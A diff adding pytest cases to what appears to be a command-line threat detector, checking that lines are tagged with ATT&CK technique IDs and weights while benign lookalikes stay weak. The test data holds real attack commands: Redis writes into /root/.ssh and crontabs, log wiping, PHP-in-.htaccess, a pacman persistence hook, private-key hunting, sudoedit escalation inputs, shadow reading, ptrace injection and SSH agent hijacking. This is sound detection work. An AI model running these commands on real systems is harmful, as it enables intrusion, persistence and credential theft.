@@ -313,6 +313,19 @@ def test_connections_named_in_arguments_or_inline_code_are_evidence(args: tuple[
     assert found.get(technique, 0.0) >= weight, (args, found)
 
 
+def test_a_data_store_client_on_the_internal_network_is_weak_and_elsewhere_is_not() -> None:
+    """`redis-cli -h 10.1.2.40` is how admins reach their services; the same client to a public host may be
+    data leaving."""
+    def weight(*args: str) -> float:
+        return max((e.weight for e in assess(ProcessEvent(args[0], " ".join(args), args)) if e.technique == "T1071"),
+                   default=0.0)
+
+    assert weight("redis-cli", "-h", "10.1.2.40", "info", "memory") == 0.15
+    assert weight("psql", "-h", "192.168.3.9", "-U", "app", "-c", "select 1") == 0.15
+    assert weight("psql", "-h", "203.0.113.5", "-U", "app") == 0.3
+    assert weight("whois", "-h", "10.1.2.40", "payload") == 0.3  # not a data store's client
+
+
 @pytest.mark.parametrize("args", [
     ("python3", "-c", "import socket; print(socket.gethostname())"),
     ("gpg", "-e", "-r", "backups@example.org", "/var/backups/etc.tgz"),
@@ -687,6 +700,10 @@ def test_a_downloader_posting_data_sends_it_and_an_ftp_host_is_no_file() -> None
     ("ccrypt -e -f -K k3y -r /home", "T1486", 0.5),
     ("mysqldump --all-databases -u root --result-file=/tmp/.db.sql", "T1074.001", 0.3),
     ("import -window root /tmp/.s.png", "T1113", 0.3),
+    ("redis-cli -h 10.1.2.40 config set dir /root/.ssh", "T1098.004", 0.5),
+    ("redis-cli CONFIG SET dbfilename authorized_keys", "T1098.004", 0.5),
+    ("redis-cli -h 10.1.2.40 config set dir /var/spool/cron/crontabs", "T1053.003", 0.5),
+    ("redis-cli -h 10.1.2.40 --rdb /tmp/.d.rdb", "T1074.001", 0.3),
 ])
 def test_containers_libraries_encryption_and_captures_are_named(line: str, technique: str, weight: float) -> None:
     assert _techniques(line).get(technique, 0) >= weight, (line, _techniques(line))
@@ -695,7 +712,8 @@ def test_containers_libraries_encryption_and_captures_are_named(line: str, techn
 @pytest.mark.parametrize("line", [
     "lxc launch ubuntu:22.04 web1", "lxc config device add web1 data disk source=/srv/data path=/data",
     "install -m 644 build/libfoo.so /usr/lib/x86_64-linux-gnu/libfoo.so", "ccrypt -e notes.txt",
-    "mysqldump app --result-file=/var/backups/app.sql",
+    "mysqldump app --result-file=/var/backups/app.sql", "redis-cli --rdb /var/backups/redis/dump.rdb",
+    "redis-cli config set maxmemory 2gb", "redis-cli config get dir",
 ])
 def test_their_everyday_uses_stay_weak(line: str) -> None:
     assert all(weight < 0.3 for weight in _techniques(line).values()), (line, _techniques(line))
@@ -780,3 +798,45 @@ def test_their_everyday_neighbours_stay_weak(line: str) -> None:
 def test_a_program_run_from_a_file_descriptor_has_no_file_behind_it(path: str, fileless: bool) -> None:
     found = {e.technique for e in assess(ProcessEvent("3", path, (path,), executable_path=path))}
     assert ("T1620" in found) == fileless, found
+
+
+@pytest.mark.parametrize(("line", "technique", "weight"), [
+    ("> /var/log/auth.log; > /var/log/wtmp", "T1070.002", 0.5),  # a redirection alone empties a file
+    ("pkill -9 -f 'kdevtmpfsi|kinsing|xmr-stak'", "T1496", 0.4),
+    ("echo 'AddType application/x-httpd-php .jpg' > /var/www/html/uploads/.htaccess", "T1505.003", 0.5),
+    ("echo '[Action]\\nExec = /usr/local/bin/.pm' >> /etc/pacman.d/hooks/zz.hook", "T1546.016", 0.5),
+    ("find /home /root -name 'id_*' -not -name '*.pub'", "T1552.001", 0.35),
+    ("/usr/sbin/sshd -p 2222 -o PermitRootLogin=yes -o PasswordAuthentication=yes", "T1098.004", 0.5),
+    ("sudoedit -s '\\' AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "T1068", 0.6),
+    ("modprobe msr allow_writes=on", "T1496", 0.4),
+    ("tar -czf /var/www/html/wp-content/uploads/bk.tgz /home", "T1074.001", 0.45),
+    ("tftp -g -r mips 203.0.113.17", "T1105", 0.3),
+])
+def test_logs_emptied_miners_web_configs_hooks_keys_doors_and_exploits_are_named(line: str, technique: str,
+                                                                                  weight: float) -> None:
+    assert _techniques(line).get(technique, 0) >= weight, (line, _techniques(line))
+
+
+@pytest.mark.parametrize("line", [
+    "> /var/log/nginx/access.log", "for f in a b; do echo $f; done > /tmp/out.txt",
+    "pkill -f 'gunicorn|celery'", "echo 'Options -Indexes' > /var/www/html/uploads/.htaccess",
+    "find . -name '*id*'", "sshd -t", "/usr/sbin/sshd -D -p 2222", "sudoedit -s /", "sudoedit /etc/motd",
+    "modprobe msr", "tar czf /var/www/html/downloads/release-1.2.tgz build/", "tftp -g -r fw.bin 10.1.2.3",
+])
+def test_neighbours_of_emptied_logs_hooks_doors_and_exploits_stay_weak(line: str) -> None:
+    assert all(weight < 0.3 for weight in _techniques(line).values()), (line, _techniques(line))
+
+
+@pytest.mark.parametrize(("line", "technique"), [
+    ("python3 -c 'import spwd; print(spwd.getspall())'", "T1003.008"),
+    ("python3 -c \"import ctypes; ctypes.CDLL('libc.so.6').ptrace(16, 1121, 0, 0)\"", "T1055.008"),
+    ("sh -c 'for s in /tmp/ssh-*/agent.*; do SSH_AUTH_SOCK=$s ssh -o BatchMode=yes root@10.1.2.21 id; done'",
+     "T1563.001"),
+    ("env 'EDITOR=vim -- /etc/sudoers' sudoedit /etc/motd", "T1068"),
+])
+def test_what_a_command_line_asks_of_the_system_is_named(line: str, technique: str) -> None:
+    args = tuple(shlex.split(line))
+    found = {e.technique: e.weight for e in assess(ProcessEvent(args[0], line, args))}
+    assert found.get(technique, 0) >= 0.5, found
+    routine = "python3 -c 'import pwd; print(pwd.getpwall())'"
+    assert all(e.weight < 0.3 for e in assess(ProcessEvent("python3", routine, tuple(shlex.split(routine)))))
